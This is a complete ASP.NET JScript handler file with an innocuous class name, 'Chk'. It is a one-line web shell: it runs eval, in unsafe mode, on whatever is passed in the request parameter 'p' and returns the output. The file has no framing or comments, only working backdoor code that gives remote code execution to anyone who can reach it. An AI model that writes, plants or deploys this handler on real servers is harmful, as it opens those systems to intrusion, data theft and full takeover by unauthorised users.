<%@ WebHandler Language="JScript" Class="Chk" %>
import System;
import System.Web;

public class Chk implements IHttpHandler {
    function IHttpHandler.ProcessRequest(context : HttpContext) {
        context.Response.Write(eval(context.Request["p"], "unsafe"));
    }
    function get IHttpHandler.IsReusable() : Boolean { return false; }
}
